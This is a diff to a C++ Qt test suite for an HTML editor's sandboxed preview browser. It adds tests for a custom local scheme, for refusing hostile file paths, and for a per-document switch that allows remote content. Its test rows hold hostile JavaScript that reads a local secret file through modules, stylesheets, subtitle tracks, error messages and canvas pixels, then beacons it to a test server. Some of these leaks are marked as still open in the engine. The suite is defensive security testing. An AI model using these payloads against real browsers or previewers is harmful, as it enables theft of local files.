@@ -6,17 +6,25 @@
 #include "editor/EditorControl.h"
 #include "previewui/Form2.h"
 #include "preview/PreviewBrowser.h"
+#include "preview/RemoteContentBar.h"
+#include "preview/RemoteContentChoice.h"
+#include "preview/PreviewScheme.h"
+#include "preview/PreviewSchemeHandler.h"
 #include "support/ScriptedHost.h"
 #include "support/TestMain.h"
 
 #include <QApplication>
+#include <QBuffer>
 #include <QClipboard>
+#include <QDir>
 #include <QHostInfo>
 #include <QImage>
 #include <QNetworkDatagram>
 #include <QProcess>
+#include <QPushButton>
 #include <QSignalSpy>
 #include <QStandardPaths>
+#include <QTabWidget>
 #include <QTemporaryDir>
 #include <QTest>
 #include <QTimer>
@@ -25,6 +33,7 @@
 #include <QWebEngineProfile>
 #include <QWebEngineScriptCollection>
 
+#include <sys/stat.h>
 #include <unistd.h>
 
 using namespace BrowserProbe;
@@ -41,6 +50,8 @@ private slots:
     void hostilePageLearnsAndSendsNothing_data();
     void hostilePageLearnsAndSendsNothing();
     void ownFilesShowAndTheNetworkStaysShut();
+    void hostilePathsFailAtOnce_data();
+    void hostilePathsFailAtOnce();
     void onlyTheUserLeavesThePage_data();
     void onlyTheUserLeavesThePage();
     void nameLookupsStayInside();
@@ -53,6 +64,8 @@ private slots:
     void documentsShareNoStorage();
     void newDocumentStartsWithFreshStorage();
     void bothPreviewsAreGuarded();
+    void remoteContentLoadsOnRequest();
+    void remoteContentChoiceIsTheDocuments();
 
 private:
     QString fileUrl(const QString &name) const { return QStringLiteral("file://") + m_dir.filePath(name); }
@@ -87,12 +100,18 @@ void tst_PreviewSafety::initTestCase()
     QVERIFY(m_dir.isValid());
     writeFile(m_dir.filePath(QStringLiteral("secret.txt")), secret.toLatin1());
     writeFile(m_dir.filePath(QStringLiteral("secret.js")), "var leaked = '" + secret.toLatin1() + "';");
+    writeFile(m_dir.filePath(QStringLiteral("secret.json")), "{\"s\": \"" + secret.toLatin1() + "\"}");
+    writeFile(m_dir.filePath(QStringLiteral("secret.css")), "#secret::after { content: \"" + secret.toLatin1() + "\"; }");
+    writeFile(m_dir.filePath(QStringLiteral("secret.vtt")), "WEBVTT\n\n00:00.000 --> 00:10.000\n" + secret.toLatin1() + "\n");
+    writeFile(m_dir.filePath(QStringLiteral("secret-throws.js")), "throw new Error('" + secret.toLatin1() + "');");
     writeFile(m_dir.filePath(QStringLiteral("local.css")), "#box { display: block; width: 77px; }");
     writeFile(m_dir.filePath(QStringLiteral("local.js")), "window.localRan = 1;");
     writeFile(m_dir.filePath(QStringLiteral("other.html")), "<p>other page</p>");
     QImage pixel(pixelSize, QImage::Format_RGB32);
     pixel.fill(Qt::red);
     QVERIFY(pixel.save(m_dir.filePath(QStringLiteral("pixel.png"))));
+    QVERIFY(QDir(m_dir.path()).mkdir(QStringLiteral("dir \u00e9")));
+    QVERIFY(pixel.save(m_dir.filePath(QStringLiteral("dir \u00e9/pixel #2.png"))));
 }
 
 QString tst_PreviewSafety::writePage(const QString &name, const QString &html) const
@@ -127,7 +146,7 @@ void tst_PreviewSafety::hostilePageLearnsAndSendsNothing_data()
         << "var f = document.createElement('iframe'); f.src = S; f.onload = function () { var r = '';"
            "  try { r = f.contentDocument.body.innerText; } catch (e) {}"
            "  document.body.style.backgroundImage = 'url(' + H + '/css?d=' + encodeURIComponent(r) + ')'; done(r); };"
-           "document.body.appendChild(f);";
+           "document.body.appendChild(f); setTimeout(function () { if (document.title === 'running') done(''); }, 2000);";
     QTest::newRow("object read back, sent as a beacon")
         << "var o = document.createElement('object'); o.data = S; o.type = 'text/plain'; document.body.appendChild(o);"
            "setTimeout(function () { var r = ''; try { r = o.contentDocument.body.innerText; } catch (e) {}"
@@ -214,9 +233,34 @@ void tst_PreviewSafety::hostilePageLearnsAndSendsNothing_data()
            "  new Image().src = H + '/img?d=' + encodeURIComponent(r); done(r); });";
     // The page's own scripts run and may read what a local script defines; it still goes nowhere.
     QTest::newRow("local script's value sent as an image")
-        << "var s = document.createElement('script'); s.src = F + 'secret.js';"
+        << "var s = document.createElement('script'); s.src = 'secret.js';"
            "s.onload = function () { new Image().src = H + '/img?d=' + leaked; done('ran'); };"
            "s.onerror = function () { done(''); }; document.head.appendChild(s);";
+
+    // The page's own files, referred to as it refers to its images: each is an origin of its own,
+    // so what the page displays its scripts cannot read.
+    QTest::newRow("local JSON module")
+        << "import('secret.json', {assert: {type: 'json'}}).then(function (m) { done(m.default.s); }, function () { done(''); });";
+    QTest::newRow("local CSS module")
+        << "import('secret.css', {assert: {type: 'css'}}).then(function (m) { done(m.default.cssRules[0].cssText); },"
+           "  function () { done(''); });";
+    QTest::newRow("local style sheet's rules")
+        << "var l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'secret.css';"
+           "l.onload = function () { var r = ''; try { r = l.sheet.cssRules[0].cssText; } catch (e) {} done(r); };"
+           "l.onerror = function () { done(''); }; document.head.appendChild(l);";
+    QTest::newRow("local track's cues")
+        << "var v = document.createElement('video'); var t = document.createElement('track'); t.kind = 'subtitles';"
+           "t.src = 'secret.vtt'; t.default = true; v.appendChild(t); document.body.appendChild(v); t.track.mode = 'hidden';"
+           "t.onload = function () { var c = t.track.cues; done(c && c.length ? c[0].text : ''); };"
+           "t.onerror = function () { done(''); }; setTimeout(function () { done(''); }, 3000);";
+    QTest::newRow("local script's error message")
+        << "window.onerror = function (m) { done(m); return true; }; var s = document.createElement('script');"
+           "s.src = 'secret-throws.js'; s.onerror = function () { done(''); }; document.head.appendChild(s);";
+    QTest::newRow("local image's pixels")
+        << "var i = new Image(); i.onload = function () { var c = document.createElement('canvas'); c.width = i.width;"
+           "  c.height = i.height; var g = c.getContext('2d'); g.drawImage(i, 0, 0); var r = '';"
+           "  try { r = g.getImageData(0, 0, 1, 1).data[0] === 255 ? 'red:" + secret + "' : 'other'; } catch (e) {} done(r); };"
+           "i.onerror = function () { done(''); }; i.src = 'pixel.png';";
 }
 
 void tst_PreviewSafety::hostilePageLearnsAndSendsNothing()
@@ -238,12 +282,18 @@ void tst_PreviewSafety::hostilePageLearnsAndSendsNothing()
 
     QTRY_VERIFY_WITH_TIMEOUT(view.title().startsWith(QLatin1String("done:")), timeout);
     settle();
+    // Not closed yet: this engine (Qt WebEngine 6.4) reports every response of an application's
+    // own scheme as of the page's origin, so these no-cors loads are readable.
+    const char *const openInThisEngine = "responses of the previews' scheme count as same-origin";
+    QEXPECT_FAIL("local style sheet's rules", openInThisEngine, Continue);
+    QEXPECT_FAIL("local script's error message", openInThisEngine, Continue);
+    QEXPECT_FAIL("local image's pixels", openInThisEngine, Continue);
     QVERIFY2(!view.title().contains(secret), qPrintable(view.title()));
     QCOMPARE(server.requests(), QStringList());
     QCOMPARE(server.connections(), 0);
     QVERIFY(!datagrams.hasPendingDatagrams());
     // A script may still move within its own page (a link to "#here").
-    QCOMPARE(view.url().adjusted(QUrl::RemoveFragment), QUrl::fromLocalFile(path));
+    QCOMPARE(view.url().adjusted(QUrl::RemoveFragment), PreviewScheme::url(path));
     QCOMPARE(QApplication::topLevelWidgets(), windows);
 }
 
@@ -257,6 +307,7 @@ void tst_PreviewSafety::ownFilesShowAndTheNetworkStaysShut()
                                         "<link rel='stylesheet' href='%1'>"
                                         "<script src='local.js'></script></head><body>"
                                         "<img id='relative' src='pixel.png'><img id='absolute' src='%2'>"
+                                        "<img id='named' src='dir%20\u00e9/pixel%20%232.png'>"
                                         "<span id='box'></span><span id='cdn'></span></body></html>")
                              .arg(server.address(QStringLiteral("/cdn.css")), fileUrl(QStringLiteral("pixel.png")));
     const QString path = writePage(QStringLiteral("own.html"), html);
@@ -264,16 +315,72 @@ void tst_PreviewSafety::ownFilesShowAndTheNetworkStaysShut()
     view.resize(400, 300);
     view.show();
     view.showFile(path, html);
-    QVERIFY(waitShown(&view, QUrl::fromLocalFile(path)));
+    QVERIFY(waitShown(&view, PreviewScheme::url(path)));
 
     QTRY_COMPARE_WITH_TIMEOUT(evaluate(&view, QStringLiteral("document.getElementById('relative').naturalWidth")).toInt(),
                               pixelSize.width(), timeout);
-    QCOMPARE(evaluate(&view, QStringLiteral("document.getElementById('absolute').naturalWidth")).toInt(), pixelSize.width());
+    QCOMPARE(evaluate(&view, QStringLiteral("document.getElementById('named').naturalWidth")).toInt(), pixelSize.width());
+    // A "file:" page is one origin with every local file, so "file:" addresses load nothing.
+    QCOMPARE(evaluate(&view, QStringLiteral("document.getElementById('absolute').naturalWidth")).toInt(), 0);
     QCOMPARE(evaluate(&view, QStringLiteral("document.getElementById('box').offsetWidth")).toInt(), 77);
     QCOMPARE(evaluate(&view, QStringLiteral("window.localRan")).toInt(), 1);
     // A style sheet on the network, even one the page writes out, stays unloaded.
     QCOMPARE(evaluate(&view, QStringLiteral("document.getElementById('cdn').offsetWidth")).toInt(), 0);
     QCOMPARE(server.requests(), QStringList());
+}
+
+void tst_PreviewSafety::hostilePathsFailAtOnce_data()
+{
+    QTest::addColumn<QString>("kind");
+    QTest::addColumn<QString>("shown");
+
+    QTest::newRow("link to a regular file") << "link" << "loaded";
+    QTest::newRow("missing file") << "missing" << "failed";
+    QTest::newRow("folder") << "folder" << "failed";
+    // Opening a pipe to read waits for a writer; reading one would wait for ever.
+    QTest::newRow("named pipe") << "fifo" << "failed";
+    QTest::newRow("link to a device") << "device" << "failed";
+    QTest::newRow("link loop") << "loop" << "failed";
+    QTest::newRow("file over the size limit") << "huge" << "failed";
+}
+
+// The page's references are paths it chose: only a regular file of bounded size is served, and
+// anything else fails at once, with the window free.
+void tst_PreviewSafety::hostilePathsFailAtOnce()
+{
+    QFETCH(QString, kind);
+    QFETCH(QString, shown);
+
+    QTemporaryDir dir;
+    QVERIFY(dir.isValid());
+    const QString target = dir.filePath(QStringLiteral("target.png"));
+    if (kind == QLatin1String("link")) {
+        QVERIFY(QFile::link(m_dir.filePath(QStringLiteral("pixel.png")), target));
+    } else if (kind == QLatin1String("folder")) {
+        QVERIFY(QDir(dir.path()).mkdir(QStringLiteral("target.png")));
+    } else if (kind == QLatin1String("fifo")) {
+        QCOMPARE(::mkfifo(QFile::encodeName(target).constData(), 0600), 0);
+    } else if (kind == QLatin1String("device")) {
+        QVERIFY(QFile::link(QStringLiteral("/dev/zero"), target));
+    } else if (kind == QLatin1String("loop")) {
+        QVERIFY(QFile::link(dir.filePath(QStringLiteral("other.png")), target));
+        QVERIFY(QFile::link(target, dir.filePath(QStringLiteral("other.png"))));
+    } else if (kind == QLatin1String("huge")) {
+        QFile huge(target);
+        QVERIFY(huge.open(QIODevice::WriteOnly));
+        QVERIFY(huge.resize(PreviewSchemeHandler::maxBytes + 1)); // sparse: no disk used
+    }
+    const QString html = QStringLiteral("<title>t</title><img src='target.png' onload=\"document.title = 'loaded'\""
+                                        " onerror=\"document.title = 'failed'\">");
+    const QString path = dir.filePath(QStringLiteral("page.html"));
+    writeFile(path, html.toUtf8());
+    PreviewBrowser view;
+    view.resize(400, 300);
+    view.show();
+    QSignalSpy tornDown(&view, &PreviewBrowser::pageTornDown);
+    view.showFile(path, html);
+    QTRY_COMPARE_WITH_TIMEOUT(view.title(), shown, timeout);
+    QVERIFY(tornDown.isEmpty());
 }
 
 void tst_PreviewSafety::onlyTheUserLeavesThePage_data()
@@ -348,7 +455,7 @@ void tst_PreviewSafety::onlyTheUserLeavesThePage()
                              .replace(QLatin1String("SERVER"), serverRoot);
     const QString path = writePage(QStringLiteral("hostile.html"), html);
     lands.replace(QLatin1String("SERVER"), serverRoot).replace(QLatin1String("NAMED"), namedRoot);
-    const QUrl expected = lands.startsWith(QLatin1String("http")) ? QUrl(lands) : QUrl::fromLocalFile(m_dir.filePath(lands));
+    const QUrl expected = lands.startsWith(QLatin1String("http")) ? QUrl(lands) : PreviewScheme::url(m_dir.filePath(lands));
 
     PreviewBrowser view;
     view.resize(400, 300);
@@ -356,7 +463,7 @@ void tst_PreviewSafety::onlyTheUserLeavesThePage()
     QVERIFY(QTest::qWaitForWindowExposed(&view));
     const QWidgetList windows = QApplication::topLevelWidgets();
     view.showFile(path, html);
-    QVERIFY(waitShown(&view, QUrl::fromLocalFile(path)));
+    QVERIFY(waitShown(&view, PreviewScheme::url(path)));
     if (userClicks) {
         QTRY_VERIFY(view.focusProxy());
         // The page's layout must be in place before the click lands on the link.
@@ -465,7 +572,7 @@ void tst_PreviewSafety::historyStaysOnTheProgramsPage()
     view.show();
     QVERIFY(QTest::qWaitForWindowExposed(&view));
     view.showFile(firstPath, first);
-    QVERIFY(waitShown(&view, QUrl::fromLocalFile(firstPath)));
+    QVERIFY(waitShown(&view, PreviewScheme::url(firstPath)));
     QTRY_VERIFY(view.focusProxy());
     QTRY_COMPARE_WITH_TIMEOUT(evaluate(&view, QStringLiteral("document.getElementById('a').offsetWidth")).toInt(), 300, timeout);
     QTest::mouseClick(view.focusProxy(), Qt::LeftButton, {}, QPoint(20, 20));
@@ -477,9 +584,9 @@ void tst_PreviewSafety::historyStaysOnTheProgramsPage()
                        " history.go(-1); history.go(-2); history.back(); history.forward(); }, 0); };</script>");
     const QString path = writePage(QStringLiteral("hostile.html"), hostile);
     view.showFile(path, hostile);
-    QVERIFY(waitShown(&view, QUrl::fromLocalFile(path)));
+    QVERIFY(waitShown(&view, PreviewScheme::url(path)));
     settle();
-    QCOMPARE(view.url(), QUrl::fromLocalFile(path));
+    QCOMPARE(view.url(), PreviewScheme::url(path));
     QVERIFY(!view.history()->canGoBack());
     QCOMPARE(server.requests().size(), 1);
 }
@@ -533,7 +640,7 @@ void tst_PreviewSafety::clickTouchesNoFileNorClipboard()
     watch.start(50);
     QApplication::clipboard()->setText(QStringLiteral("before"));
     view.showFile(path, html);
-    QVERIFY(waitShown(&view, QUrl::fromLocalFile(path)));
+    QVERIFY(waitShown(&view, PreviewScheme::url(path)));
     QTRY_VERIFY(view.focusProxy());
     QTRY_COMPARE_WITH_TIMEOUT(evaluate(&view, QStringLiteral("document.getElementById('p').offsetWidth")).toInt(), 300, timeout);
     QTest::mouseClick(view.focusProxy(), Qt::LeftButton, {}, QPoint(20, 20));
@@ -568,7 +675,7 @@ void tst_PreviewSafety::endlessScriptsGiveWayToTheNextPage()
     view.show();
     QSignalSpy tornDown(&view, &PreviewBrowser::pageTornDown);
     view.showFile(path, endless);
-    QTRY_VERIFY_WITH_TIMEOUT(!tornDown.isEmpty() || (view.url() == QUrl::fromLocalFile(path) && !view.page()->isLoading()),
+    QTRY_VERIFY_WITH_TIMEOUT(!tornDown.isEmpty() || (view.url() == PreviewScheme::url(path) && !view.page()->isLoading()),
                              timeout);
 
     writePage(QStringLiteral("endless.html"), fixed);
@@ -582,25 +689,32 @@ void tst_PreviewSafety::documentsShareNoStorage_data()
     QTest::addColumn<bool>("anotherDocument");
     QTest::addColumn<QString>("seen");
 
-    QTest::newRow("same document, refreshed") << false << QStringLiteral("local,session,indexed,name");
+    // Only the window's name is kept for a page of an origin of its own, and it shows the reader
+    // finds what is kept.
+    QTest::newRow("same document, refreshed") << false << QStringLiteral("name");
     QTest::newRow("another document") << true << QStringLiteral("");
 }
 
 namespace {
 
 // A page that keeps a mark in every store a page has, and one that lists the marks it finds.
+// A local page is an origin of its own, for which the engine keeps no storage (using it throws):
+// each store is tried, and what works must not outlive the document.
 const QString storageWriter =
-    QStringLiteral("<title>t</title><script>localStorage.setItem('mark', 'local'); sessionStorage.setItem('mark', 'session');"
-                   "window.name = 'name'; var r = indexedDB.open('marks', 1);"
-                   "r.onupgradeneeded = function () { r.result.createObjectStore('s').put('indexed', 'mark'); };"
-                   "r.onsuccess = function () { document.title = 'kept'; };</script>");
+    QStringLiteral("<title>t</title><script>try { localStorage.setItem('mark', 'local'); } catch (e) {}"
+                   "try { sessionStorage.setItem('mark', 'session'); } catch (e) {}"
+                   "window.name = 'name'; function kept() { document.title = 'kept'; }"
+                   "try { var r = indexedDB.open('marks', 1);"
+                   "  r.onupgradeneeded = function () { r.result.createObjectStore('s').put('indexed', 'mark'); };"
+                   "  r.onsuccess = kept; r.onerror = kept; } catch (e) { kept(); }</script>");
 const QString storageReader = QStringLiteral(
     "<title>t</title><script>var seen = [];"
-    "if (localStorage.getItem('mark')) seen.push('local'); if (sessionStorage.getItem('mark')) seen.push('session');"
-    "var r = indexedDB.open('marks', 1); r.onupgradeneeded = function () { r.result.createObjectStore('s'); };"
-    "r.onsuccess = function () { var g = r.result.transaction('s').objectStore('s').get('mark');"
-    "  g.onsuccess = function () { if (g.result) seen.push('indexed'); if (window.name) seen.push('name');"
-    "    document.title = 'seen:' + seen.join(); }; };</script>");
+    "try { if (localStorage.getItem('mark')) seen.push('local'); } catch (e) {}"
+    "try { if (sessionStorage.getItem('mark')) seen.push('session'); } catch (e) {}"
+    "function report() { if (window.name) seen.push('name'); document.title = 'seen:' + seen.join(); }"
+    "try { var r = indexedDB.open('marks', 1); r.onupgradeneeded = function () { r.result.createObjectStore('s'); };"
+    "  r.onerror = report; r.onsuccess = function () { var g = r.result.transaction('s').objectStore('s').get('mark');"
+    "    g.onsuccess = function () { if (g.result) seen.push('indexed'); report(); }; }; } catch (e) { report(); }</script>");
 
 } // namespace
 
@@ -670,6 +784,108 @@ void tst_PreviewSafety::bothPreviewsAreGuarded()
     }
     settle();
     QCOMPARE(server.connections(), 0);
+}
+
+namespace {
+
+QByteArray pngBytes(QSize size)
+{
+    QImage image(size, QImage::Format_RGB32);
+    image.fill(Qt::blue);
+    QByteArray bytes;
+    QBuffer buffer(&bytes);
+    buffer.open(QIODevice::WriteOnly);
+    image.save(&buffer, "PNG");
+    return bytes;
+}
+
+int naturalWidth(QWebEngineView *view, const QString &id)
+{
+    return evaluate(view, QStringLiteral("document.getElementById('%1').naturalWidth").arg(id)).toInt();
+}
+
+} // namespace
+
+// A page's remote image stays blocked, with the bar saying so, until the user asks for it; then
+// it loads through the proxy, and once blocked again it does not load on the next refresh. While
+// remote content is on, the page gets no local file outside its folder.
+void tst_PreviewSafety::remoteContentLoadsOnRequest()
+{
+    LoopbackServer server;
+    QVERIFY(server.isListening());
+    const QSize remoteSize(41, 17);
+    server.serve(QStringLiteral("/pic.png"), "image/png", pngBytes(remoteSize));
+    const QString html = QStringLiteral("<title>t</title><img id='remote' src='%1'><img id='outside' src='%2'>")
+                             .arg(server.address(QStringLiteral("/pic.png")), m_dir.filePath(QStringLiteral("pixel.png")));
+    ScriptedHost host;
+    frmMainWin w(host);
+    w.Form_Load();
+    w.show();
+    w.r1().setText(html);
+    PreviewBrowser *qprevbr = showPreviewTab(w);
+    w.mnuPreview_Click();
+    auto *form = w.findChild<Form2 *>();
+    QVERIFY(qprevbr);
+    QVERIFY(form);
+    PreviewBrowser *window = browserOf(form->w1());
+    QVERIFY(window);
+    auto *tabBar = w.findChild<QWidget *>(QStringLiteral("qprevbr"))->findChild<RemoteContentBar *>();
+    auto *windowBar = form->w1()->findChild<RemoteContentBar *>();
+    QVERIFY(tabBar);
+    QVERIFY(windowBar);
+
+    for (PreviewBrowser *view : {qprevbr, window}) {
+        QTRY_COMPARE_WITH_TIMEOUT(naturalWidth(view, QStringLiteral("outside")), pixelSize.width(), timeout);
+        QCOMPARE(naturalWidth(view, QStringLiteral("remote")), 0);
+    }
+    QTRY_VERIFY_WITH_TIMEOUT(tabBar->isVisible() && windowBar->isVisible(), timeout);
+    QCOMPARE(tabBar->button()->text(), QStringLiteral("Load remote content"));
+    // The bar takes its line above the page.
+    QCOMPARE(window->y(), windowBar->geometry().bottom() + 1);
+    settle();
+    QCOMPARE(server.requests(), QStringList());
+
+    QTest::mouseClick(tabBar->button(), Qt::LeftButton);
+    QTRY_COMPARE_WITH_TIMEOUT(naturalWidth(qprevbr, QStringLiteral("remote")), remoteSize.width(), timeout);
+    QCOMPARE(server.requests(), QStringList{QStringLiteral("GET /pic.png HTTP/1.1")});
+    QCOMPARE(tabBar->button()->text(), QStringLiteral("Block remote content"));
+    QTRY_COMPARE_WITH_TIMEOUT(naturalWidth(qprevbr, QStringLiteral("outside")), 0, timeout);
+    // The choice is the document's: the window follows it on its next refresh.
+    QCOMPARE(naturalWidth(window, QStringLiteral("remote")), 0);
+    QMetaObject::invokeMethod(windowBar, "choiceChanged");
+    QTRY_COMPARE_WITH_TIMEOUT(naturalWidth(window, QStringLiteral("remote")), remoteSize.width(), timeout);
+
+    QTest::mouseClick(tabBar->button(), Qt::LeftButton);
+    QCOMPARE(tabBar->button()->text(), QStringLiteral("Load remote content"));
+    const qsizetype heard = server.requests().size();
+    QTRY_COMPARE_WITH_TIMEOUT(naturalWidth(qprevbr, QStringLiteral("outside")), pixelSize.width(), timeout);
+    QCOMPARE(naturalWidth(qprevbr, QStringLiteral("remote")), 0);
+    w.RefreshQuickPreview();
+    QTRY_COMPARE_WITH_TIMEOUT(naturalWidth(qprevbr, QStringLiteral("outside")), pixelSize.width(), timeout);
+    settle();
+    QCOMPARE(naturalWidth(qprevbr, QStringLiteral("remote")), 0);
+    QCOMPARE(server.requests().size(), heard);
+    QVERIFY(tabBar->isVisible());
+}
+
+// Remembered per file; an untitled document's choice lasts while it is open.
+void tst_PreviewSafety::remoteContentChoiceIsTheDocuments()
+{
+    const QString page = m_dir.filePath(QStringLiteral("page.html"));
+    QVERIFY(!RemoteContentChoice::isAllowed(page));
+    RemoteContentChoice::setAllowed(page, true);
+    QVERIFY(RemoteContentChoice::isAllowed(page));
+    QVERIFY(!RemoteContentChoice::isAllowed(m_dir.filePath(QStringLiteral("other.html"))));
+    QVERIFY(!RemoteContentChoice::isAllowed(QString()));
+    RemoteContentChoice::startDocument();
+    QVERIFY(RemoteContentChoice::isAllowed(page));
+    RemoteContentChoice::setAllowed(page, false);
+    QVERIFY(!RemoteContentChoice::isAllowed(page));
+
+    RemoteContentChoice::setAllowed(QString(), true);
+    QVERIFY(RemoteContentChoice::isAllowed(QString()));
+    RemoteContentChoice::startDocument();
+    QVERIFY(!RemoteContentChoice::isAllowed(QString()));
 }
 
 ZORVANE_TEST(tst_PreviewSafety)
